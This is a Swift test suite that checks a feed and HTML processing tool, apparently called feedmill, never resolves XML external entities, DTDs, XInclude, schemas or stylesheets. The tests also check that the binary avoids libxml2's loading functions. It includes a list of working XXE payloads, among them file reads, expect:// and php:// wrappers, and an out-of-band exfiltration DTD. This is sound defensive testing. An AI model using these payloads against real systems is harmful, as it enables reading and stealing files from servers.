import Basics
import Glibc
import LoopbackServer
import Testing

/// Whatever a document says of files and addresses elsewhere, none is opened and none is asked for (threats, E13).
@Suite struct ExternalEntityTests {
    private static let marker = "the-marker-of-a-stolen-file"

    /// Beginnings that name something elsewhere, and a reference to it. `WEB` is an address, `FILE` a file's path.
    private static let tricks: [(name: String, start: String, reference: String)] = [
        ("file", "<!DOCTYPE r [<!ENTITY x SYSTEM \"file://FILE\">]>", "&x;"),
        ("path", "<!DOCTYPE r [<!ENTITY x SYSTEM \"FILE\">]>", "&x;"),
        ("http", "<!DOCTYPE r [<!ENTITY x SYSTEM \"WEB\">]>", "&x;"),
        ("public", "<!DOCTYPE r [<!ENTITY x PUBLIC \"-//x//y\" \"WEB\">]>", "&x;"),
        ("php", "<!DOCTYPE r [<!ENTITY x SYSTEM \"php://filter/read=convert.base64-encode/resource=FILE\">]>", "&x;"),
        ("expect", "<!DOCTYPE r [<!ENTITY x SYSTEM \"expect://cat FILE\">]>", "&x;"),
        ("parameter", "<!DOCTYPE r [<!ENTITY % x SYSTEM \"WEB\"> %x;]>", ""),
        (
            "out of band",
            "<!DOCTYPE r [<!ENTITY % f SYSTEM \"file://FILE\"><!ENTITY % d \"<!ENTITY &#37; s SYSTEM 'WEB?%f;'>\"> %d; %s;]>",
            ""
        ),
        ("in an entity", "<!DOCTYPE r [<!ENTITY y SYSTEM \"WEB\"><!ENTITY x \"&y;\">]>", "&x;"),
        ("DTD", "<!DOCTYPE r SYSTEM \"WEB\">", ""),
        ("public DTD", "<!DOCTYPE r PUBLIC \"-//x//y\" \"WEB\">", "&nope;"),
        ("style sheet", "<?xml-stylesheet type=\"text/xsl\" href=\"WEB\"?>", ""),
        ("catalogue", "<?oasis-xml-catalog catalog=\"WEB\"?>", ""),
        ("notation", "<!DOCTYPE r [<!NOTATION n SYSTEM \"WEB\"><!ENTITY x SYSTEM \"WEB\" NDATA n>]>", "&x;"),
        (
            "schema", "",
            "<s xmlns:i=\"http://www.w3.org/2001/XMLSchema-instance\" i:schemaLocation=\"u WEB\" i:noNamespaceSchemaLocation=\"WEB\"/>"
        ),
        (
            "XInclude", "",
            "<i:include xmlns:i=\"http://www.w3.org/2001/XInclude\" href=\"WEB\"/><i:include xmlns:i=\"http://www.w3.org/2001/XInclude\" parse=\"text\" href=\"file://FILE\"/>"
        ),
    ]

    private let home = Home()
    private let server = ScriptedServer { _ in
        [.answer("200 OK", "Content-Type: application/xml\r\n", ExternalEntityTests.marker)]
    }

    private func filled(_ text: String) -> String {
        text.replacing("WEB", with: server.url("/stolen")).replacing("FILE", with: home.path + "/secret")
    }

    private func rss(_ trick: (name: String, start: String, reference: String)) -> String {
        filled(trick.start)
            + "<rss version=\"2.0\"><channel><title>T\(filled(trick.reference))</title><item><guid>1</guid><title>a\(filled(trick.reference))b</title><description>d\(filled(trick.reference))</description></item></channel></rss>"
    }

    @Test func feeds() throws {
        defer { server.stop() }
        home.write("secret", Self.marker)
        var config =
            "state_directory = \"state\"\nspool_directory = \"spool\"\n[http]\nallow_addresses = [\"127.0.0.1\"]\n[articles]\nfetch = false\n"
        for (number, trick) in Self.tricks.enumerated() {
            let file = home.write("\(number).xml", rss(trick))
            config += "[[feed]]\nurl = \"file://\(file)\"\nid = \"f\(number)\"\n"
            let parsed = Program.run(["parse", file], in: home)
            #expect(parsed.status == 0 && !parsed.output.contains(Self.marker), "\(trick.name)")
        }
        let file = home.write("feedmill.toml", config)
        #expect(Program.run(["run", "--once", "--config", file], in: home).status == 0)
        let records = try Consumer(spool: home.path + "/spool").take()
        #expect(records.count == Self.tricks.count)
        #expect(!records.contains { String(decoding: $0.encoded, as: UTF8.self).contains(Self.marker) })
        #expect(server.requests.isEmpty, "\(server.requests.map(\.lines))")
    }

    @Test func pages() throws {
        defer { server.stop() }
        home.write("secret", Self.marker)
        let text = String(repeating: "The council met and agreed to repair the old bridge. ", count: 20)
        for trick in Self.tricks {
            let page = home.write(
                "page.html",
                filled(trick.start)
                    + "<html><head><title>P</title><link rel=stylesheet href=\"\(server.url("/stolen"))\"></head><body>"
                    + "<p>\(text)\(filled(trick.reference))</p><iframe src=\"\(server.url("/stolen"))\"></iframe></body></html>"
            )
            for command in [["extract", page], ["extract", "--format", "markdown", page], ["discover", page]] {
                #expect(!Program.run(command, in: home).output.contains(Self.marker), "\(trick.name)")
            }
        }
        #expect(server.requests.isEmpty, "\(server.requests.map(\.lines))")
    }

    @Test func listsOfFeeds() throws {
        defer { server.stop() }
        home.write("secret", Self.marker)
        for (number, trick) in Self.tricks.enumerated() {
            let outline =
                "<outline text=\"t\(trick.reference.hasPrefix("&") ? trick.reference : "")\" xmlUrl=\"http://127.0.0.1:1/\(number)\"/>"
            let list = home.write(
                "list.opml",
                filled(trick.start)
                    + "<opml version=\"2.0\"><head><title>\(filled(trick.reference))</title></head><body>\(outline)</body></opml>"
            )
            let config = home.write(
                "feedmill.toml", "state_directory = \"state\"\nspool_directory = \"spool\"\ninclude = [\"list.opml\"]\n"
            )
            let listed = Program.run(["feeds", "list", "--json", "--config", config], in: home)
            #expect(listed.output.contains("http://127.0.0.1:1/\(number)"), "\(trick.name): \(listed.complaints)")
            #expect(!listed.output.contains(Self.marker), "\(trick.name)")
            unlink(list)
        }
        #expect(server.requests.isEmpty, "\(server.requests.map(\.lines))")
    }

    /// Of libxml2 the program calls what parses HTML from memory and evaluates paths; nothing that loads, validates or includes
    /// (threats, E14). A function that a program calls is named in it.
    @Test func noFunctionThatLoadsIsCalled() {
        let program = Home.bytes(Program.path)
        #expect(program.contains("htmlCreateMemoryParserCtxt"))
        let loading = [
            "xmlReadFile", "xmlParseFile", "xmlCtxtReadFile", "xmlReadMemory", "xmlParseChunk",
            "xmlCreatePushParserCtxt",
            "htmlReadFile", "htmlParseFile", "htmlCtxtReadFile", "htmlCreatePushParserCtxt", "xmlLoadExternalEntity",
            "xmlXIncludeProcess", "xmlSchemaParse", "xmlSchematronParse", "xmlRelaxNGParse", "xmlLoadCatalog",
            "xmlInitializeCatalog", "xmlNanoHTTPFetch", "xmlNanoFTPOpen", "xsltApplyStylesheet", "xmlParseDTD",
            "xmlSAXUserParseFile", "xmlNewTextReader",
        ]
        for name in loading { #expect(!program.contains(name + "\0"), "\(name)") }
    }
}
